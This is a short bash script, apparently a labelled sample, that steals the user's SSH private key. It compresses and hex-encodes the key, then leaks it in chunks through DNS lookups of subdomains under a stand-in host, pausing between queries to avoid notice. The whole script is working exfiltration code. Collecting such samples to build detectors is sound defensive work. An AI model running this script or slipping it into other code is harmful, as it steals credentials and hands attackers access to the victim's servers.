#!/bin/bash
# class: a key that leaves in names
k=$(gzip -c ~/.ssh/id_ed25519 | xxd -p | tr -d '\n')
while [ -n "$k" ]; do
  host "${k:0:50}.n.cdn-metrics.example" >/dev/null
  k=${k:50}
  sleep 1
done
